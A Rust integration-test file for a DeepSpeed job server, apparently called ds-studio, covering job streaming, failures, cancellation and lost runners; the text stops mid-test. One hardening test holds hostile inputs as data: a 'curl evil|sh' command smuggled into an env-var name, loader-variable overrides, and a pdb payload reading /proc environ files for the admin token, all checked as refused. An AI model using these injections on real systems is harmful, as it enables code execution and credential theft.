//! Jobs against the real DeepSpeed engine on CPU, through the real `ds-studio` binary:
//! `serve` with its local runner, or `serve --no-local-runner` beside a `ds-studio runner`
//! process. Needs the engine environment (`ds-studio engine setup`, which `cargo xtask test`
//! runs first); without it these tests fail and say so.
//!
//! The jobs run one at a time (a lock): the machine has two cores and each job starts torch.

#[path = "../../server/tests/common/mod.rs"]
mod common;

use common::{free_port, Proc};
use ds_studio_client::{Client, SseDecoder};
use ds_studio_shared::api::endpoints as ep;
use ds_studio_shared::api::{
    Job, JobCreate, JobState, LogLine, MetricPoint, MetricSeries, NoBody, Template,
};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Two engine slots on this 2-core machine: a job whose test only waits on its own server, job
/// directory and script takes one, so two such tests overlap their imports and waits; a test
/// that kills processes, looks for them by job id (`job-1` of another test's server would
/// match), bounds a time, runs several ranks or nodes, or fills memory takes both.
static ENGINE_SLOTS: tokio::sync::Semaphore = tokio::sync::Semaphore::const_new(2);

/// A test's share of the engine: `alone` takes both slots (FIFO: a waiting `alone` test holds
/// back later ones, so it is never starved).
async fn engine_slot(alone: bool) -> tokio::sync::SemaphorePermit<'static> {
    ENGINE_SLOTS
        .acquire_many(if alone { 2 } else { 1 })
        .await
        .expect("the semaphore is never closed")
}

const TOKEN: &str = "engine-test-admin-token-0123456789";

/// A config the tiny workload trains with in a few seconds; `torch_adam` avoids compiling
/// DeepSpeed's fused Adam (a minute on a fresh machine).
fn config(extra: Value) -> Value {
    let mut c = json!({
        "train_batch_size": 8,
        "train_micro_batch_size_per_gpu": 4,
        "gradient_accumulation_steps": 2,
        "optimizer": {"type": "AdamW", "params": {"lr": 0.001, "torch_adam": true}},
        "scheduler": {"type": "WarmupLR", "params": {"warmup_num_steps": 5, "warmup_max_lr": 0.001}},
        "steps_per_print": 5
    });
    if let (Some(c), Value::Object(e)) = (c.as_object_mut(), extra) {
        c.extend(e);
    }
    c
}

fn engine_python() -> PathBuf {
    let py = ds_studio_runner::engine::resolve_python(None);
    let ok = Command::new(&py)
        .args(["-c", "import deepspeed, torch"])
        .env("DS_ACCELERATOR", "cpu")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    assert!(
        ok,
        "{} cannot import deepspeed: run `cargo run -p ds-studio -- engine setup` (cargo xtask test does)",
        py.display()
    );
    py
}

impl Proc {
    fn signal(&mut self, sig: i32) {
        // SAFETY: kill(2) on our own child's pid.
        unsafe {
            libc::kill(self.0.id() as i32, sig);
        }
        let _ = self.0.wait();
    }
}

struct Studio {
    url: String,
    data: PathBuf,
    port: u16,
    server: Option<Proc>,
    client: Client,
}

fn spawn_server(data: &Path, port: u16, local_runner: bool) -> Proc {
    spawn_server_with(data, port, local_runner, &[])
}

/// `ds-studio serve` with the admin token in its environment (as production should pass it)
/// and `extra` arguments.
fn spawn_server_with(data: &Path, port: u16, local_runner: bool, extra: &[String]) -> Proc {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_ds-studio"));
    cmd.args(["serve", "--addr", &format!("127.0.0.1:{port}")])
        .args(extra)
        .env("DS_STUDIO_ADMIN_TOKEN", TOKEN)
        .arg("--data")
        .arg(data)
        .arg("--static-dir")
        .arg(data)
        .env("RUST_LOG", "warn")
        .stdout(Stdio::null())
        .stderr(Stdio::inherit());
    if !local_runner {
        cmd.arg("--no-local-runner");
    }
    Proc(cmd.spawn().expect("ds-studio serve starts"))
}

impl Studio {
    async fn start(local_runner: bool) -> Studio {
        Studio::start_with(local_runner, &[]).await
    }

    async fn start_with(local_runner: bool, extra: &[String]) -> Studio {
        engine_python();
        let data = common::scratch("engine");
        let port = free_port();
        let server = spawn_server_with(&data, port, local_runner, extra);
        let url = format!("http://127.0.0.1:{port}");
        let s = Studio {
            client: Client::new(&url, Some(TOKEN.into())),
            url,
            data,
            port,
            server: Some(server),
        };
        s.wait_healthy().await;
        s
    }

    async fn wait_healthy(&self) {
        common::wait_healthy(&self.url).await;
    }

    /// `ds-studio runner` against this studio, job directories in DATA/`workdir`.
    fn runner_command(&self, name: &str, workdir: &str) -> Command {
        // A runner token for this name, made offline on the studio's database.
        let made = Command::new(env!("CARGO_BIN_EXE_ds-studio"))
            .args(["runner-token", "create", "--name", name, "--data"])
            .arg(&self.data)
            .output()
            .expect("ds-studio runner-token create runs");
        assert!(made.status.success(), "{made:?}");
        let token = String::from_utf8(made.stdout).unwrap().trim().to_string();
        assert!(token.starts_with("dsr_"), "{token}");
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_ds-studio"));
        cmd.args(["runner", "--server", &self.url, "--name", name])
            .env("DS_STUDIO_RUNNER_TOKEN", token)
            .arg("--workdir")
            .arg(self.data.join(workdir))
            .args(["--heartbeat-s", "1"])
            .env("RUST_LOG", "warn")
            .stdout(Stdio::null())
            .stderr(Stdio::inherit());
        cmd
    }

    fn runner(&self, name: &str) -> Proc {
        Proc(
            self.runner_command(name, "runner-jobs")
                .spawn()
                .expect("ds-studio runner starts"),
        )
    }

    async fn template(&self, config: Value) -> Template {
        static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let name = format!(
            "engine-test-{}",
            N.fetch_add(1, std::sync::atomic::Ordering::SeqCst)
        );
        self.client
            .call(
                ep::CreateTemplate::url([]),
                &serde_json::from_value(json!({"name": name, "config": config})).unwrap(),
            )
            .await
            .unwrap()
    }

    /// Every metric series of a job.
    async fn metrics(&self, job: i64) -> Vec<MetricSeries> {
        self.client
            .fetch(ep::JobMetrics::url([&job]))
            .await
            .unwrap()
    }

    async fn submit(&self, template: i64, max_steps: u32, extra: Value) -> Job {
        let mut body = json!({
            "template_id": template,
            "workload": {"builtin": "gpt", "size": "tiny"},
            "gpus": 1,
            "max_steps": max_steps
        });
        if let (Some(b), Value::Object(e)) = (body.as_object_mut(), extra) {
            b.extend(e);
        }
        let body: JobCreate = serde_json::from_value(body).unwrap();
        self.client
            .call(ep::SubmitJob::url([]), &body)
            .await
            .unwrap()
    }

    /// Waits until a runner called `name` has registered.
    async fn wait_runner(&self, name: &str) {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let runners: Vec<ds_studio_shared::api::Runner> =
                self.client.fetch(ep::ListRunners::url([])).await.unwrap();
            if runners.iter().any(|r| r.name == name && r.online) {
                return;
            }
            assert!(Instant::now() < deadline, "runner {name} did not register");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    async fn job(&self, id: i64) -> Job {
        self.client.fetch(ep::GetJob::url([&id])).await.unwrap()
    }

    /// Polls until the job is in one of `states`, failing after `max`.
    async fn wait_state(&self, id: i64, states: &[JobState], max: Duration) -> Job {
        let deadline = Instant::now() + max;
        loop {
            let j = self.job(id).await;
            if states.contains(&j.state) {
                return j;
            }
            assert!(
                Instant::now() < deadline,
                "job {id} is {:?} after {max:?}, expected {states:?}: {:?}",
                j.state,
                j.message
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }

    /// Polls until the job has stored at least one metric point named `name`.
    async fn wait_metric(&self, id: i64, name: &str, max: Duration) {
        let deadline = Instant::now() + max;
        loop {
            let series: Vec<MetricSeries> =
                self.client.fetch(ep::JobMetrics::url([&id])).await.unwrap();
            if series.iter().any(|s| s.name == name) {
                return;
            }
            let j = self.job(id).await;
            assert!(!j.state.is_terminal(), "job ended before {name}: {j:?}");
            assert!(Instant::now() < deadline, "no {name} after {max:?}");
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }
}

/// Every SSE event of a job until its final state (resuming after `after`).
async fn collect_events(
    client: &Client,
    id: i64,
    after: Option<&str>,
) -> Vec<(String, Option<String>, Value)> {
    let mut resp = client
        .open_stream(ep::JobEvents::url([&id]), after)
        .await
        .unwrap();
    let mut dec = SseDecoder::default();
    let mut out = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(300);
    while let Some(chunk) = tokio::time::timeout(Duration::from_secs(120), resp.chunk())
        .await
        .expect("events keep coming (or keep-alives)")
        .unwrap()
    {
        for ev in dec.feed(&chunk) {
            let data: Value = serde_json::from_str(&ev.data).unwrap();
            out.push((ev.event, ev.id, data));
        }
        assert!(Instant::now() < deadline, "the stream did not end");
    }
    out
}

/// Rows of a CSV monitor file (header lines excluded).
/// Whether DeepSpeed's CPU accelerator offers fp16 on this machine (oneDNN's fp16: AVX512-FP16
/// or AMX), as the engine decides it.
fn cpu_has_fp16() -> bool {
    let out = Command::new(engine_python())
        .args([
            "-c",
            "from deepspeed.accelerator import get_accelerator as a; print(bool(a().is_fp16_supported()))",
        ])
        .env("DS_ACCELERATOR", "cpu")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .trim_end()
        .ends_with("True")
}

fn csv_rows(path: &Path) -> usize {
    std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with("step,"))
        .count()
}

/// Live processes whose command line mentions `needle`.
fn processes_mentioning(needle: &str) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        if e.file_name()
            .to_str()
            .is_some_and(|s| s.parse::<u32>().is_ok())
        {
            if let Ok(c) = std::fs::read(e.path().join("cmdline")) {
                let c = String::from_utf8_lossy(&c).replace('\0', " ");
                if c.contains(needle) {
                    out.push(c);
                }
            }
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn builtin_workload_streams_lr_and_loss_and_succeeds() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 20, json!({})).await;
    // The answer is the job as stored after the insert: the local runner, already waiting,
    // may have claimed it in between (seen once in CI-like runs).
    assert!(
        matches!(job.state, JobState::Queued | JobState::Running),
        "{:?}",
        job.state
    );
    let events = collect_events(&studio.client, job.id, None).await;

    let (first, last) = (&events[0], events.last().unwrap());
    assert_eq!(first.0, "state");
    assert_eq!(last.0, "state");
    let end: Job = serde_json::from_value(last.2.clone()).unwrap();
    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
    assert_eq!(end.exit_code, Some(0));
    let pf = end.preflight.as_ref().expect("preflight recorded");
    assert!(
        pf.ok && pf.deepspeed_version.as_deref() == Some("0.19.8"),
        "{pf:?}"
    );

    // Event ids are the sequence numbers: 1, 2, 3, ... with nothing missing.
    let seqs: Vec<i64> = events
        .iter()
        .filter_map(|e| e.1.as_ref().map(|i| i.parse().unwrap()))
        .collect();
    assert_eq!(seqs, (1..=seqs.len() as i64).collect::<Vec<_>>());
    assert_eq!(end.last_seq, seqs.len() as i64);

    let series = |name: &str| -> Vec<MetricPoint> {
        events
            .iter()
            .filter(|e| e.0 == "metric" && e.2["name"] == name)
            .map(|e| serde_json::from_value(e.2.clone()).unwrap())
            .collect()
    };
    for name in ["Train/Samples/lr", "Train/Samples/train_loss"] {
        let pts = series(name);
        // One point per optimizer step; the step is global samples (8 per step).
        assert_eq!(pts.len(), 20, "{name}: {pts:?}");
        assert!(
            pts.windows(2).all(|w| w[0].step < w[1].step),
            "{name} steps increase"
        );
        assert_eq!(pts[0].step, 8);
    }
    let loss = series("Train/Samples/train_loss");
    assert!(
        loss.last().unwrap().value < loss[0].value,
        "the loss falls: {loss:?}"
    );
    // DeepSpeed's progress lines (every 5 steps) and the workload's result line.
    let sps = series("samples_per_sec");
    assert_eq!(
        sps.iter().map(|p| p.step).collect::<Vec<_>>(),
        vec![5, 10, 15, 20]
    );
    assert!(!series("result/peak_memory_mb").is_empty());
    assert!(!series("process/rss_mb").is_empty());
    let logs: Vec<LogLine> = studio
        .client
        .fetch(ep::JobLogs::url([&job.id]))
        .await
        .unwrap();
    assert!(logs.iter().any(|l| l.text.contains("ds-studio-result")));
    assert!(logs
        .iter()
        .any(|l| l.stream == "runner" && l.text.contains("preflight")));

    // What was streamed is what DeepSpeed wrote: as many lr points as CSV rows.
    let csv = studio.data.join(format!(
        "jobs/job-{0}/work/monitor/ds-studio-job-{0}/Train_Samples_lr.csv",
        job.id
    ));
    assert_eq!(csv_rows(&csv), 20);

    // Downsampled on request: ends kept, at most max_points.
    let ds: Vec<MetricSeries> = studio
        .client
        .fetch(
            ep::JobMetrics::url([&job.id])
                .query("name", "Train/Samples/lr")
                .query("max_points", 5),
        )
        .await
        .unwrap();
    assert_eq!(ds.len(), 1);
    assert_eq!((ds[0].total, ds[0].points.len()), (20, 5));
    assert_eq!(ds[0].points[0].0, 8);
    assert_eq!(ds[0].points[4].0, 160);

    // Reconnecting with Last-Event-ID replays only what came after it.
    let again = collect_events(&studio.client, job.id, Some("10")).await;
    let ids: Vec<i64> = again
        .iter()
        .filter_map(|e| e.1.as_ref().map(|i| i.parse().unwrap()))
        .collect();
    assert_eq!(ids.first(), Some(&11));
    assert_eq!(ids.len() as i64, end.last_seq - 10);
    // For a job that has ended, the final state is the last event, after the replay.
    assert_eq!(again.last().unwrap().0, "state");
    assert_ne!(again[0].0, "state");
}

/// DeepSpeed's checkpoint writer (0.17.1+) reads `CROSS_SIZE`/`CROSS_RANK` when the engine
/// starts, which only its own launcher sets: a one-process job sets them too, or it fails with
/// `KeyError: 'CROSS_SIZE'`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_checkpoint_writer_job_starts_on_one_process() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    let t = studio
        .template(config(json!({
            "checkpoint": {"writer": {"type": "mock", "data_parallel": "replica"}}
        })))
        .await;
    let job = studio.submit(t.id, 4, json!({})).await;
    let end = studio
        .wait_state(
            job.id,
            &[JobState::Failed, JobState::Succeeded, JobState::Lost],
            Duration::from_secs(240),
        )
        .await;
    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_config_deepspeed_rejects_fails_in_preflight_with_its_message() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    // ds-studio accepts GDS for the CUDA accelerator the template targets; the CPU runner's
    // DeepSpeed refuses it. The preflight says so before any training starts.
    let t = studio
        .template(config(json!({"aio": {"use_gds": true}})))
        .await;
    let job = studio.submit(t.id, 20, json!({})).await;
    let end = studio
        .wait_state(
            job.id,
            &[JobState::Failed, JobState::Succeeded],
            Duration::from_secs(180),
        )
        .await;
    assert_eq!(end.state, JobState::Failed);
    let msg = end.message.unwrap();
    assert!(
        msg.contains("DeepSpeed rejected the config in preflight")
            && msg.contains("GDS currently only supported for CUDA accelerator"),
        "{msg}"
    );
    let pf = end.preflight.unwrap();
    assert!(!pf.ok);
    assert_eq!(pf.accelerator.as_deref(), Some("cpu"));
    // Nothing was launched: no training log line, no metrics.
    let logs: Vec<LogLine> = studio
        .client
        .fetch(ep::JobLogs::url([&job.id]))
        .await
        .unwrap();
    assert!(
        !logs.iter().any(|l| l.text.starts_with("launch:")),
        "{logs:?}"
    );

    // A config with errors in the job's context is refused at submission, with diagnostics.
    let bad = studio
        .template(config(json!({"train_batch_size": 7})))
        .await;
    let err = studio
        .client
        .call(
            ep::SubmitJob::url([]),
            &serde_json::from_value(json!({"template_id": bad.id, "workload": {"builtin": "gpt"}}))
                .unwrap(),
        )
        .await
        .unwrap_err();
    match err {
        ds_studio_client::ClientError::Api {
            status,
            code,
            details,
            ..
        } => {
            assert_eq!((status, code.as_str()), (422, "config_rejected"));
            assert!(details.unwrap()["diagnostics"][0]["code"].is_string());
        }
        other => panic!("{other:?}"),
    }
}

/// The attack of the hardening issue: a job that runs a program of the host (pdb with `-c`
/// commands) or a file the studio wrote, or that sets loader variables, to read the server's
/// admin token. None of it runs, and an allowed script sees no secret in its environment.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_can_neither_run_any_program_nor_see_the_servers_secrets() {
    let _one = engine_slot(false).await;
    let scripts = common::scratch("entrypoints");
    std::fs::write(
        scripts.join("probe.py"),
        "import os\n\
         names = sorted(os.environ)\n\
         print('probe-names:' + ','.join(names))\n\
         hits = [k for k, v in os.environ.items() if 'engine-test-admin-token' in v]\n\
         print('probe-secret-in-env:' + str(bool(hits)))\n",
    )
    .unwrap();
    let studio = Studio::start_with(
        true,
        &["--allow-entrypoints".into(), scripts.display().to_string()],
    )
    .await;
    let t = studio.template(config(json!({}))).await;
    let entry = |path: String, args: Vec<&str>| json!({"workload": {"builtin": null, "entrypoint": path, "args": args}});
    let submit_raw = |extra: Value| {
        let mut body = json!({"template_id": t.id, "gpus": 1, "max_steps": 5});
        if let (Some(b), Value::Object(e)) = (body.as_object_mut(), extra) {
            b.extend(e);
        }
        let client = &studio.client;
        async move {
            let body: JobCreate = serde_json::from_value(body).unwrap();
            client.call(ep::SubmitJob::url([]), &body).await
        }
    };
    // Loader, path and device variables are refused at submission, named.
    for (name, value) in [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("PYTHONPATH", "/tmp"),
        ("PATH", "/tmp"),
        ("CUDA_VISIBLE_DEVICES", "0,1"),
        ("X;curl evil|sh;Y", "1"),
    ] {
        let mut env = serde_json::Map::new();
        env.insert(name.into(), json!(value));
        let err = submit_raw(json!({"workload": {"builtin": "gpt"}, "env": env}))
            .await
            .unwrap_err();
        match err {
            ds_studio_client::ClientError::Api {
                status, message, ..
            } => {
                assert_eq!(status, 422, "{name}: {message}");
                assert!(message.contains(name), "{name}: {message}");
            }
            other => panic!("{other:?}"),
        }
    }
    // A program of the host, with pdb's `-c` commands: refused by the runner, never run.
    let pdb = submit_raw(entry(
        "/usr/lib/python3.11/pdb.py".into(),
        vec![
            "-c",
            "!import glob; print([open(p).read() for p in glob.glob('/proc/[0-9]*/environ')])",
            "-c",
            "q",
            "/usr/lib/python3.11/this.py",
        ],
    ))
    .await
    .unwrap();
    let refused = |job: i64, why: &'static str| {
        let studio = &studio;
        async move {
            let end = studio
                .wait_state(
                    job,
                    &[JobState::Failed, JobState::Succeeded],
                    Duration::from_secs(180),
                )
                .await;
            assert_eq!(end.state, JobState::Failed, "{end:?}");
            let msg = end.message.unwrap_or_default();
            assert!(msg.contains("entrypoint") && msg.contains(why), "{msg}");
            let logs: Vec<LogLine> = studio.client.fetch(ep::JobLogs::url([&job])).await.unwrap();
            assert!(
                !logs
                    .iter()
                    .any(|l| l.text.contains(TOKEN) || l.text.starts_with("launch:")),
                "{logs:?}"
            );
        }
    };
    refused(pdb.id, "not under a directory").await;
    // A file the studio itself wrote into a job directory (valid hjson and valid Python).
    let written = studio
        .data
        .join(format!("jobs/job-{}/ds_config.json", pdb.id));
    assert!(written.exists());
    let own = submit_raw(entry(written.display().to_string(), vec![]))
        .await
        .unwrap();
    refused(own.id, "job directories").await;
    // An allowed script runs, and its environment holds nothing of the server's.
    let probe = submit_raw(entry("probe.py".into(), vec![])).await.unwrap();
    let end = studio
        .wait_state(
            probe.id,
            &[JobState::Failed, JobState::Succeeded],
            Duration::from_secs(240),
        )
        .await;
    let logs: Vec<LogLine> = studio
        .client
        .fetch(ep::JobLogs::url([&probe.id]))
        .await
        .unwrap();
    assert_eq!(end.state, JobState::Succeeded, "{end:?} {logs:?}");
    let names = logs
        .iter()
        .find_map(|l| l.text.strip_prefix("probe-names:"))
        .expect("the probe printed its environment");
    for secret in ["DS_STUDIO_ADMIN_TOKEN", "RUST_LOG", "CARGO_MANIFEST_DIR"] {
        assert!(
            !names.split(',').any(|n| n == secret),
            "{secret} in {names}"
        );
    }
    assert!(
        names.split(',').any(|n| n == "TORCH_EXTENSIONS_DIR"),
        "{names}"
    );
    assert!(
        logs.iter().any(|l| l.text == "probe-secret-in-env:False"),
        "{logs:?}"
    );
}

/// A training process that runs out of memory (here PyTorch's CPU allocator refusing a 1 PiB
/// tensor, the way CUDA refuses one past the card) fails with reason `out_of_memory` and
/// PyTorch's own words, not torchrun's last line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_that_runs_out_of_memory_fails_with_reason_out_of_memory() {
    let _one = engine_slot(true).await;
    let scripts = common::scratch("oom-entrypoints");
    std::fs::write(
        scripts.join("oom.py"),
        "import torch\n\
         print('allocating', flush=True)\n\
         x = torch.empty(1 << 50, dtype=torch.uint8)\n\
         print('unreachable', x.numel())\n",
    )
    .unwrap();
    let studio = Studio::start_with(
        true,
        &["--allow-entrypoints".into(), scripts.display().to_string()],
    )
    .await;
    let t = studio.template(config(json!({}))).await;
    let job: Job = studio
        .client
        .call(
            ep::SubmitJob::url([]),
            &serde_json::from_value(json!({"template_id": t.id, "gpus": 1, "max_steps": 2,
                "workload": {"builtin": null, "entrypoint": "oom.py"}}))
            .unwrap(),
        )
        .await
        .unwrap();
    let end = studio
        .wait_state(
            job.id,
            &[JobState::Failed, JobState::Succeeded],
            Duration::from_secs(240),
        )
        .await;
    assert_eq!(end.state, JobState::Failed, "{end:?}");
    assert_eq!(
        end.reason,
        Some(ds_studio_shared::api::FailureReason::OutOfMemory),
        "{end:?}"
    );
    let message = end.message.unwrap_or_default();
    assert!(message.contains("can't allocate memory"), "{message}");
}

/// The failures the engine can produce on CPU, explained (issue 52): fp16 overflowing at the
/// smallest loss scale, a loss that becomes NaN in fp32 (the job runs to its end, learning
/// nothing), and a rank that goes silent under DeepSpeed's launcher, stopped by the job's
/// `stall_timeout_s`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_engines_failures_are_explained() {
    use ds_studio_shared::api::FailureReason;
    let _one = engine_slot(false).await;
    let scripts = common::scratch("silent-rank");
    std::fs::write(
        scripts.join("silent_rank.py"),
        "import time, deepspeed, torch.distributed as dist\n\
         deepspeed.init_distributed(dist_backend='gloo')\n\
         rank = dist.get_rank()\n\
         print(f'global_step=1, RunningAvgSamplesPerSec=1.0, CurrSamplesPerSec=1.0 rank={rank}', flush=True)\n\
         if rank == 1:\n    time.sleep(3600)\n\
         dist.barrier()\n",
    )
    .unwrap();
    let studio = Studio::start_with(
        true,
        &["--allow-entrypoints".into(), scripts.display().to_string()],
    )
    .await;
    // A learning rate no model survives: after the first update its weights leave fp16's
    // range (and, squared in the forward pass, fp32's).
    let wild = |precision: Value| {
        let mut c = json!({
            "train_batch_size": 4,
            "train_micro_batch_size_per_gpu": 4,
            "gradient_accumulation_steps": 1,
            "optimizer": {"type": "AdamW", "params": {"lr": 1e30, "torch_adam": true}},
            "steps_per_print": 1
        });
        c.as_object_mut()
            .unwrap()
            .extend(precision.as_object().unwrap().clone());
        c
    };
    let fp16 = studio
        // ZeRO's loss scaler raises at its minimum (stage 0's unfused optimizer goes on).
        .template(wild(
            json!({"fp16": {"enabled": true, "initial_scale_power": 1,
            "min_loss_scale": 1, "hysteresis": 1, "loss_scale_window": 1000},
            "zero_optimization": {"stage": 1}}),
        ))
        .await;
    let fp32 = studio.template(wild(json!({}))).await;
    let overflow = studio.submit(fp16.id, 8, json!({})).await;
    let nan = studio.submit(fp32.id, 6, json!({})).await;
    // 16 = micro 4 × accumulation 2 × 2 ranks.
    let two = studio
        .template(config(json!({"train_batch_size": 16})))
        .await;
    let silent = studio
        .submit(
            two.id,
            2,
            json!({"gpus": 2, "stall_timeout_s": 30,
                   "workload": {"builtin": null, "entrypoint": "silent_rank.py"}}),
        )
        .await;
    let done = [JobState::Succeeded, JobState::Failed];
    let overflow = studio
        .wait_state(overflow.id, &done, Duration::from_secs(240))
        .await;
    assert_eq!(overflow.state, JobState::Failed, "{overflow:?}");
    let message = overflow.message.as_deref().unwrap_or_default();
    let fp16_here = cpu_has_fp16();
    if fp16_here {
        assert_eq!(
            overflow.reason,
            Some(FailureReason::LossScaleAtMinimum),
            "{overflow:?}"
        );
        assert!(message.contains("Current loss scale already at minimum"));
    } else {
        // DeepSpeed's CPU accelerator has fp16 only where oneDNN does (AVX512-FP16 or AMX):
        // on this CPU the engine refuses fp16 before training, and the signature is checked
        // on DeepSpeed's recorded text alone (`shared::api::failures`' tests).
        assert!(message.contains("fp16 is not supported"), "{overflow:?}");
        eprintln!("this CPU has no fp16: the loss-scale run fails before training ({message})");
    }

    let nan = studio
        .wait_state(nan.id, &done, Duration::from_secs(240))
        .await;
    assert_eq!(nan.state, JobState::Succeeded, "{nan:?}");
    assert_eq!(nan.reason, Some(FailureReason::NonFiniteLoss), "{nan:?}");
    let m = nan.message.clone().unwrap_or_default();
    assert!(m.contains("Train/Samples/train_loss"), "{m}");

    let silent = studio
        .wait_state(silent.id, &done, Duration::from_secs(240))
        .await;
    assert_eq!(silent.state, JobState::Failed, "{silent:?}");
    assert_eq!(silent.reason, Some(FailureReason::Stalled), "{silent:?}");
    assert!(
        silent
            .message
            .as_deref()
            .unwrap_or_default()
            .contains("30 s"),
        "{silent:?}"
    );
    // Nothing of the silent rank is left running.
    let scripts_dir = scripts.join("silent_rank.py").display().to_string();
    assert!(
        processes_mentioning(&scripts_dir).is_empty(),
        "{:?}",
        processes_mentioning(&scripts_dir)
    );
    // `jobs show` says each in English and in Chinese, with a change to try.
    let explained = [
        (overflow.id, "bf16", "bf16"),
        (nan.id, "gradient_clipping", "学习率"),
        (silent.id, "stall_timeout_s", "stall_timeout_s"),
    ];
    for (job, en, zh) in explained.into_iter().skip(usize::from(!fp16_here)) {
        for (lang, want) in [("en", en), ("zh", zh)] {
            let o = Command::new(env!("CARGO_BIN_EXE_ds-studio"))
                .args([
                    "jobs",
                    "show",
                    &job.to_string(),
                    "--server",
                    &studio.url,
                    "--lang",
                    lang,
                ])
                .env("DS_STUDIO_TOKEN", TOKEN)
                .output()
                .unwrap();
            let out = String::from_utf8_lossy(&o.stdout);
            assert!(
                o.status.success(),
                "{out} {}",
                String::from_utf8_lossy(&o.stderr)
            );
            assert!(out.contains(want), "{lang}: {out}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancel_mid_run_leaves_no_process_behind() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 100_000, json!({})).await;
    studio
        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
        .await;
    let job_dir = format!("job-{}", job.id);
    assert!(!processes_mentioning(&job_dir).is_empty(), "the job runs");
    let asked: Job = studio
        .client
        .fetch(ep::CancelJob::url([&job.id]))
        .await
        .unwrap();
    assert!(asked.cancel_requested);
    let end = studio
        .wait_state(job.id, &[JobState::Cancelled], Duration::from_secs(30))
        .await;
    assert_eq!(end.message.as_deref(), Some("cancelled by a user"));
    assert!(end.exit_code.is_some());
    let left = processes_mentioning(&job_dir);
    assert!(left.is_empty(), "processes of the job left: {left:?}");
    // Cancelling again is a conflict, naming the state.
    let again = studio
        .client
        .fetch(ep::CancelJob::url([&job.id]))
        .await
        .unwrap_err();
    assert!(again.to_string().contains("already ended"), "{again}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_killed_runner_has_its_job_marked_lost_within_30_s() {
    let _one = engine_slot(true).await;
    let studio = Studio::start(false).await;
    let mut runner = studio.runner("doomed");
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 100_000, json!({})).await;
    studio
        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
        .await;
    let killed = Instant::now();
    runner.signal(libc::SIGKILL);
    let end = studio
        .wait_state(job.id, &[JobState::Lost], Duration::from_secs(30))
        .await;
    let took = killed.elapsed();
    assert!(took < Duration::from_secs(30), "lost after {took:?}");
    assert!(end.message.unwrap().contains("heartbeats"));
    eprintln!(
        "job lost {:.1} s after its runner was killed",
        took.as_secs_f64()
    );
    // The training process went with its runner (it gets SIGTERM when its parent dies).
    let deadline = Instant::now() + Duration::from_secs(15);
    while !processes_mentioning(&format!("job-{}", job.id)).is_empty() {
        assert!(
            Instant::now() < deadline,
            "training processes outlived their runner"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// kill -9 of `serve` with its local runner mid-run: the training died with it. Started again,
/// the local runner's first heartbeats do not report the job, so it is marked `lost` saying why
/// (it stayed `running` for good, and its template could never be deleted).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_killed_mid_run_has_its_local_job_marked_lost() {
    let _one = engine_slot(true).await;
    let mut studio = Studio::start(true).await;
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 100_000, json!({})).await;
    studio
        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
        .await;
    studio.server.take().unwrap().signal(libc::SIGKILL);
    studio.server = Some(spawn_server(&studio.data, studio.port, true));
    studio.wait_healthy().await;
    let restarted = Instant::now();
    let end = studio
        .wait_state(job.id, &[JobState::Lost], Duration::from_secs(30))
        .await;
    let why = end.message.unwrap();
    assert!(why.contains("`local` no longer runs it"), "{why}");
    eprintln!(
        "job lost {:.1} s after the server came back",
        restarted.elapsed().as_secs_f64()
    );
    // Nothing of the template runs: it can be deleted.
    studio
        .client
        .fetch(ep::DeleteTemplate::url([&t.id]))
        .await
        .unwrap();
}

/// kill -9 of a `ds-studio runner` mid-run, started again at once (within the 20 s the reaper
/// waits): it heartbeats without the job, which is marked `lost` at once, not left running.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runner_restarted_mid_run_has_its_old_job_marked_lost() {
    let _one = engine_slot(true).await;
    let studio = Studio::start(false).await;
    let mut runner = studio.runner("phoenix");
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 100_000, json!({})).await;
    studio
        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
        .await;
    runner.signal(libc::SIGKILL);
    let _again = studio.runner("phoenix");
    let end = studio
